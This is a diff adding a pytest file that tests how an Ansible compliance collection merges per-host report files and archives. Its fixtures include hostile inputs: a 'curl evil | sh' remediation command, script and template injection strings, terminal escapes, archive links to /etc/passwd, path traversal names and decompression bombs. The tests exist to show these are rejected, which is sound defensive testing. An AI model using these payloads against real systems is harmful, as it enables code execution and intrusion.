@@ -1,0 +1,412 @@
+# Copyright: threadwise.smt contributors
+# SPDX-License-Identifier: GPL-3.0-or-later
+"""Files of several checks as one: which word on a host counts, in whatever order they are read, and files that lie."""
+
+from __future__ import annotations
+
+import datetime
+import gzip
+import io
+import itertools
+import json
+import os
+import random
+import tarfile
+import zipfile
+
+import pytest
+import scraped_fleet
+from ansible_collections.threadwise.smt.plugins.plugin_utils._compliance_sources import base, files, push
+from ansible_collections.threadwise.smt.plugins.plugin_utils._fleet import compliance, compliance_report
+from ansible_collections.threadwise.smt.plugins.plugin_utils._fleet.compliance_files import registry
+from ansible_collections.threadwise.smt.plugins.plugin_utils._fleet.compliance_files.base import Check
+from ansible_collections.threadwise.smt.plugins.plugin_utils._fleet.remediation import Call
+from scraped_fleet import drifted, found
+
+NOW = datetime.datetime(2026, 11, 28, 12, tzinfo=datetime.UTC)
+MINUTE = datetime.timedelta(minutes=1)
+
+
+def document(hosts=None, ago=30, error=None):
+    """A file of a check, as it is written: host -> what was found."""
+    judged = sorted((hosts or {}).items())
+    return registry.formats()["json"].make(Check(judged, NOW - ago * MINUTE, call=Call(error=error)))
+
+
+def asked(paths, hosts, others=(), **options):
+    options = {"files": [str(path) for path in paths], "max_age": None, **options}
+    return base.Asked(sorted(hosts), others, NOW, options, lambda *_words: None, lambda _name: None)
+
+
+def read(paths, hosts="abcdef", **options):
+    return files.SOURCE.read(asked(paths, hosts, **options))
+
+
+def statuses(answer):
+    return {host: result["status"] for host, result in answer.judged}
+
+
+def write(tmp_path, **named):
+    paths = []
+    for name, content in named.items():
+        path = tmp_path / f"{name}.json"
+        path.write_text(content)
+        paths.append(path)
+    return paths
+
+
+def test_slices_are_one_check_with_all_that_each_says_of_its_hosts(tmp_path):
+    aspect = {"status": "drifted", "reasons": ["x", "y"], "blocked_by": "no method"}
+    waiver = {"until": "2027-03-01", "state": "valid", "days_left": 93, "reason": "licence", "owner": "jo"}
+    decision = {
+        "stale": ["another kernel"],
+        "measure": ["a"],
+        "rests_on": {
+            "kernels": ["6.1"],
+            "microcode": [],
+            "mitigations": [["l1tf", "pte"]],
+            "collection_versions": [],
+            "governors": [],
+            "boost": [True],
+            "first_day": "2026-01-01",
+            "last_day": None,
+        },
+        "rechecks": [
+            {"host": "h", "run": "r", "day": None, "age_days": 3, "kernel": None, "mitigations": None, "state": "holds"}
+        ],
+    }
+    full = found(
+        "waived",
+        "running: x",
+        running=aspect,
+        waiver=waiver,
+        decided_by="RUN",
+        services=["nginx has 8"],
+        pending_rollback={"since": None, "back_to": None},
+        reboot_pending=True,
+        decision=decision,
+    )
+    paths = write(
+        tmp_path,
+        one=document({"a": full, "b": drifted()}),
+        two=document({"c": found("compliant")}),
+        three=document({"d": found("unreachable", "no route"), "e": found("bad_policy", "none is set")}),
+    )
+    answer = read(paths, "abcde")
+    assert statuses(answer) == {
+        "a": "waived",
+        "b": "drifted",
+        "c": "compliant",
+        "d": "unreachable",
+        "e": "bad_policy",
+    }
+    one = dict(answer.judged)["a"]
+    same = {name: one[name] for name in full if name not in ("running", "checked", "decision", "change")}
+    assert same == {name: full[name] for name in same}
+    # Commands of others are not passed on, and what they would change is not known here.
+    assert one["running"] == {**aspect, "blocked_by": None} and one["change"] is None
+    assert one["decision"] == {**decision, "measure": []} and one["checked"] == "2026-11-28T11:30:00Z"
+    assert (answer.strangers, list(answer.notes)) == ([], [])
+    for made in registry.formats().values():
+        assert made.make(Check(answer.judged, NOW))
+
+
+def test_the_order_and_the_number_of_files_decide_nothing(tmp_path):
+    slices = write(
+        tmp_path,
+        one=document({"a": found("compliant"), "b": drifted()}),
+        two=document({"b": found("compliant"), "c": found("unreachable")}, ago=32),
+        three=document({"c": found("compliant"), "a": drifted()}, ago=300),
+        empty=document({}),
+        failed=document(error="no host takes part"),
+    )
+    answers = {repr((sorted(read(paths).judged), read(paths).notes)) for paths in itertools.permutations(slices)}
+    answers |= {repr((sorted(read([*slices, *random.choices(slices, k=5)]).judged), read(slices).notes))}
+    (tmp_path / "zz").mkdir()
+    for number, path in enumerate(slices):
+        (tmp_path / "zz" / f"{number}.json").write_text(path.read_text())
+    copied = read([*slices, tmp_path / "zz"])
+    assert len(answers) == 1 and answers == {repr((sorted(copied.judged), copied.notes))}
+    # In one directory and in archives they are the same.
+    with zipfile.ZipFile(tmp_path / "all.zip", "w") as archive:
+        for path in slices:
+            archive.write(path, f"../../{path.name}")
+    with tarfile.open(tmp_path / "all.tar.gz", "w:gz") as archive:
+        for path in reversed(slices):
+            archive.add(path, f"/x/{path.name}")
+    expected = {"a": "compliant", "b": "drifted", "c": "unreachable", "d": "unknown", "e": "unknown", "f": "unknown"}
+    for place in ("all.zip", "all.tar.gz"):
+        assert statuses(read([tmp_path / place])) == expected
+    assert statuses(read([tmp_path])) == expected and not (tmp_path.parent / "one.json").exists()
+
+
+def test_the_order_of_words_decides_nothing_also_of_the_same_time(tmp_path):
+    at = [NOW - ago * MINUTE for ago in (30, 30, 35, 300)]
+    said = [found("compliant"), drifted(), found("unreachable", "no route"), found("waived")]
+    words = [base.Word("a", when, one, f"file {number}") for number, (when, one) in enumerate(zip(at, said))]
+    words.append(words[1]._replace(origin="file 0b"))
+    answers = {
+        repr(base.judged(asked([], "a"), order, lambda _host: None, None)) for order in itertools.permutations(words)
+    }
+    assert len(answers) == 1
+    ((_host, result),) = base.judged(asked([], "a"), words, lambda _host: None, None)
+    assert result["status"] == "drifted" and "file 0b says drifted" in result["sentence"]
+
+
+def test_the_hosts_own_time_counts_before_that_of_the_file(tmp_path):
+    early = dict(found("compliant"), checked="2026-11-28T09:00:00Z")
+    paths = write(tmp_path, late_file=document({"a": early}, ago=1), early_file=document({"a": drifted()}, ago=60))
+    assert statuses(read(paths, "a")) == {"a": "drifted"}
+
+
+@pytest.mark.parametrize(("apart", "named"), [(0, True), (9, True), (11, False)])
+def test_words_of_about_the_same_time_that_differ_are_named_with_their_files(apart, named, tmp_path):
+    paths = write(tmp_path, one=document({"a": found("compliant")}), two=document({"a": drifted()}, ago=30 + apart))
+    ((_host, result),) = read(paths, "a").judged
+    assert result["status"] == ("compliant" if apart else "drifted")
+    said = [f"{paths[0]} says compliant at 2026-11-28T11:30:00Z", f"{paths[1]} says drifted at "]
+    assert [one in result["sentence"] for one in said] == [named, named]
+    assert ("contradict" in result["sentence"]) is named
+
+
+def test_who_could_not_reach_a_host_says_nothing_against_one_who_could(tmp_path):
+    missed = document({"a": found("unreachable", "no route"), "b": found("unreachable")}, ago=1)
+    paths = write(tmp_path, one=missed, two=document({"a": drifted()}, ago=5), three=document({"b": drifted()}, ago=90))
+    assert statuses(read(paths, "ab")) == {"a": "drifted", "b": "unreachable"}
+
+
+def test_an_empty_slice_is_no_failure_and_a_failed_call_is_said(tmp_path):
+    paths = write(tmp_path, one=document({"a": found("compliant")}), two=document({}))
+    answer = read(paths, "a")
+    assert not compliance_report.exit_worthy(answer.judged) and list(answer.notes) == []
+    paths += write(tmp_path, three=document(error="no host matches web"))
+    answer = read(paths, "a")
+    assert not compliance_report.exit_worthy(answer.judged)
+    assert list(answer.notes) == [f"{paths[2]} checked no host: no host matches web"]
+    # Whose hosts nobody else checked is not known.
+    ((_host, result),) = read(paths[2:], "a").judged
+    assert (result["status"], result["sentence"]) == ("unknown", "no file has a word on it; 1 file could not be used")
+
+
+def test_what_the_inventory_has_not_is_listed_and_what_the_call_is_not_about_is_not(tmp_path):
+    paths = write(tmp_path, one=document({name: found("compliant") for name in "abx"}))
+    answer = read(paths, "a", others=["b"])
+    assert statuses(answer) == {"a": "compliant"} and answer.strangers == ["x"]
+
+
+def test_a_word_that_is_too_old_is_silence_where_that_is_asked_for(tmp_path):
+    paths = write(tmp_path, one=document({"a": found("compliant")}, ago=121))
+    assert statuses(read(paths, "a")) == {"a": "compliant"}
+    assert statuses(read(paths, "a", max_age=2.0)) == {"a": "silent"}
+
+
+def test_a_time_that_has_not_come_is_no_latest_word(tmp_path):
+    paths = write(
+        tmp_path,
+        one=document({"a": found("compliant"), "b": found("compliant")}, ago=-600),
+        two=document({"a": drifted()}),
+    )
+    assert statuses(read(paths, "ab")) == {"a": "drifted", "b": "unknown"}
+
+
+def test_files_of_the_version_before_are_read(tmp_path):
+    content = json.loads(document({"a": drifted()}))
+    content["schema_version"] = 2
+    for name in ("silent", "unknown_to_server"):
+        del content["counts"][name]
+    for host in content["hosts"]:
+        del host["checked"], host["services"]
+    (path,) = write(tmp_path, old=json.dumps(content))
+    assert statuses(read([path], "a")) == {"a": "drifted"}
+
+
+def changed(**fields):
+    return json.dumps({**json.loads(document({"a": found("compliant")})), **fields})
+
+
+def with_host(**fields):
+    content = json.loads(document({"a": found("compliant")}))
+    content["hosts"][0].update(fields)
+    return json.dumps(content)
+
+
+BROKEN = {
+    "half": document({"a": found("compliant")})[:100],
+    "empty": "",
+    "list": "[]",
+    "deep": "[" * 100_000,
+    "another schema": changed(schema="threadwise.smt/report"),
+    "another version": changed(schema_version=4),
+    "no time": changed(at="yesterday"),
+    "no day": changed(at="2026-02-30T00:00:00Z"),
+    "a status that is none": with_host(status="fine"),
+    "a host that is none": with_host(host=7),
+    "a time that is none": with_host(checked="2026-13-01T00:00:00Z"),
+    "a scope that is none": with_host(scope="{{ 7 * 7 }}"),
+    "no number": changed(at=float("nan")),
+    "bytes": b"\xff\xfe\x00",
+}
+
+
+@pytest.mark.parametrize("kind", BROKEN)
+def test_a_file_that_is_none_is_named_and_the_others_count(kind, tmp_path):
+    path = tmp_path / "broken.json"
+    path.write_bytes(BROKEN[kind] if isinstance(BROKEN[kind], bytes) else BROKEN[kind].encode())
+    good = write(tmp_path, good=document({"a": drifted()}))
+    answer = read([path, *good], "a")
+    (note,) = answer.notes
+    assert statuses(answer) == {"a": "drifted"} and note.startswith(f"{path} does not count: it is no ")
+    assert note.isprintable() and len(note) < 600
+    with pytest.raises(base.SourceError, match=r"broken\.json does not count"):
+        read([path], "a")
+
+
+EVIL = "\x1b[31m\u202e<script>alert(1)</script>\n{{ 7 * 7 }}"
+
+
+def test_what_a_file_says_is_shown_safely_and_its_commands_are_not_passed_on(tmp_path):
+    content = json.loads(document({"a": drifted()}))
+    content["hosts"][0].update(sentence=EVIL, wanted="x", services=[EVIL], remediation="curl evil | sh")
+    content["hosts"].append(dict(content["hosts"][0], host="x\u202ey"))
+    (path,) = write(tmp_path, evil=json.dumps(content))
+    answer = read([path], "a")
+    page, text = (registry.formats()[name].make(Check(answer.judged, NOW)) for name in ("page", "json"))
+    table = "\n".join(compliance_report.table(answer.judged))
+    for one in (page, text, table, *answer.strangers):
+        assert "\x1b" not in one and "\u202e" not in one and "curl evil" not in one
+    assert "<script>alert" not in page and "49" not in table
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "reason"),
+    [
+        ("a.zip", b"PK\x03\x04nonsense", "it cannot be unpacked"),
+        ("a.zip", b"", "it cannot be unpacked"),
+        ("a.zip", files._ZIP_ENTRY * (files.MAX_FILES + 1), "more than 20000 files"),
+        ("a.tar.gz", b"\x1f\x8bnonsense", "it cannot be unpacked"),
+        ("a.tgz", gzip.compress(b"x" * 5000), "it cannot be unpacked"),
+        ("a.txt", b"{}", "its name ends in none of .json, .zip, .tar.gz, .tgz"),
+    ],
+)
+def test_an_archive_that_is_none_is_named(name, content, reason, tmp_path):
+    path = tmp_path / name
+    path.write_bytes(content)
+    answer = read([path, *write(tmp_path, good=document({"a": drifted()}))], "a")
+    assert statuses(answer) == {"a": "drifted"}
+    assert len(answer.notes) == 1 and f"{name} does not count: " in answer.notes[0] and reason in answer.notes[0]
+
+
+def packed_zip(members, how=zipfile.ZIP_DEFLATED):
+    stream = io.BytesIO()
+    with zipfile.ZipFile(stream, "w", how) as archive:
+        for name, content in members:
+            archive.writestr(name, content)
+    return stream.getvalue()
+
+
+def packed_tar(members):
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
+        for name, content in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(content)
+            archive.addfile(info, io.BytesIO(content))
+    return stream.getvalue()
+
+
+@pytest.mark.parametrize(("name", "pack"), [("a.zip", packed_zip), ("a.tar.gz", packed_tar)])
+def test_what_is_larger_than_it_looks_is_refused_before_it_takes_memory(name, pack, tmp_path, monkeypatch):
+    monkeypatch.setattr(files, "MAX_FILE", 100_000)
+    (tmp_path / name).write_bytes(pack([("bomb.json", b" " * 10_000_000)]))
+    answer = read([tmp_path / name, *write(tmp_path, good=document({"a": drifted()}))], "a")
+    assert "bomb.json in it is larger than" in answer.notes[0] and statuses(answer) == {"a": "drifted"}
+
+
+def test_a_tar_archive_whose_other_members_are_huge_is_refused(tmp_path, monkeypatch):
+    monkeypatch.setattr(files, "MAX_ALL", 1_000_000)
+    (tmp_path / "a.tar.gz").write_bytes(packed_tar([("rest.bin", b"\0" * 5_000_000)]))
+    answer = read([tmp_path / "a.tar.gz", *write(tmp_path, good=document({"a": drifted()}))], "a")
+    assert "when it is unpacked" in answer.notes[0]
+
+
+def test_too_many_files_end_the_call(tmp_path, monkeypatch):
+    monkeypatch.setattr(files, "MAX_FILES", 3)
+    write(tmp_path, **{f"f{number}": document({"a": drifted()}, ago=number) for number in range(5)})
+    with pytest.raises(base.SourceError, match="more than 3 files"):
+        read([tmp_path], "a")
+    with pytest.raises(base.SourceError, match=r"can be read: \S+ does not count: it has more than 3 files"):
+        (tmp_path / "many").mkdir()
+        (tmp_path / "many" / "a.tar.gz").write_bytes(packed_tar([(f"{one}.txt", b"") for one in range(5)]))
+        read([tmp_path / "many"], "a")
+
+
+def test_members_that_are_no_files_are_left_alone(tmp_path):
+    stream = io.BytesIO()
+    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
+        for kind in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE, tarfile.DIRTYPE):
+            info = tarfile.TarInfo("x.json")
+            info.type, info.linkname = kind, "/etc/passwd"
+            archive.addfile(info)
+        content = document({"a": drifted()}).encode()
+        info = tarfile.TarInfo("good.json")
+        info.size = len(content)
+        archive.addfile(info, io.BytesIO(content))
+    (tmp_path / "a.tar.gz").write_bytes(stream.getvalue())
+    answer = read([tmp_path / "a.tar.gz"], "a")
+    assert statuses(answer) == {"a": "drifted"} and list(answer.notes) == []
+
+
+def test_an_encrypted_archive_and_another_compression_are_named(tmp_path):
+    (tmp_path / "lzma.zip").write_bytes(packed_zip([("a.json", document({"a": drifted()}))], zipfile.ZIP_LZMA))
+    content = bytearray(packed_zip([("a.json", document({"a": drifted()}))], zipfile.ZIP_STORED))
+    for sign, flags in ((b"PK\x03\x04", 6), (files._ZIP_ENTRY, 8)):
+        content[content.index(sign) + flags] |= 1
+    (tmp_path / "secret.zip").write_bytes(content)
+    answer = read([tmp_path, *write(tmp_path, good=document({"a": drifted()}))], "a")
+    assert ["lzma.zip does not" in answer.notes[0], "secret.zip does not" in answer.notes[1]] == [True, True]
+
+
+def test_nothing_leads_out_of_a_directory_or_blocks_in_it(tmp_path):
+    inside, outside = tmp_path / "inside", tmp_path / "outside"
+    inside.mkdir(), outside.mkdir()
+    write(outside, secret=document({"a": drifted()}))
+    write(inside, good=document({"b": drifted()}))
+    (inside / "link").symlink_to(outside)
+    (inside / "link.json").symlink_to(outside / "secret.json")
+    os.mkfifo(inside / "fifo.json")
+    (inside / "deep.json").mkdir()
+    answer = read([inside], "ab")
+    assert statuses(answer) == {"a": "unknown", "b": "drifted"}
+    assert [note.partition(" does not count: ")[0].rpartition("/")[2] for note in answer.notes] == [
+        "deep.json",
+        "fifo.json",
+        "link.json",
+    ]
+    # A path that the user wrote may be a link.
+    (tmp_path / "mine").symlink_to(outside)
+    assert statuses(read([tmp_path / "mine"], "a")) == {"a": "drifted"}
+
+
+@pytest.mark.parametrize("paths", [[], ["/nonexistent/x.json"], ["empty"]])
+def test_without_any_file_there_is_no_answer(paths, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    (tmp_path / "empty").mkdir()
+    with pytest.raises(base.SourceError, match="smt_compliance_files"):
+        read(paths, "a")
+
+
+def test_what_this_call_found_is_a_source_too():
+    results = {"a": {"compliance": drifted()}, "b": {"unreachable": True, "msg": "no route"}}
+    one = base.Asked(["a", "b"], [], NOW, {"results": "judged"}, lambda _name, host: results[host], lambda _name: None)
+    assert statuses(push.SOURCE.read(one)) == {"a": "drifted", "b": "unreachable"}
+
+
+def test_the_metrics_of_merged_hosts_have_the_time_of_their_word(tmp_path):
+    paths = write(tmp_path, one=document({"a": found("compliant"), "b": found("compliant")}, ago=200))
+    answer = read(paths, "abc", max_age=1.0)
+    text = registry.formats()["metrics"].make(Check(answer.judged, NOW))
+    at = int((NOW - 200 * MINUTE).timestamp())
+    assert f'checked_timestamp_seconds{{host="a",hardware_class="x86_64-2s64c128t-split"}} {at}\n' in text
+    # A controller that did not hear of a host has no word on it that a server could take for one.
+    assert 'status="silent"} 1' in text and 'threadwise_smt_status_timestamp_seconds{host="a"' not in text
+    assert set(compliance.NOT_SEEN) < set(compliance.STATUSES) and scraped_fleet.HOUR
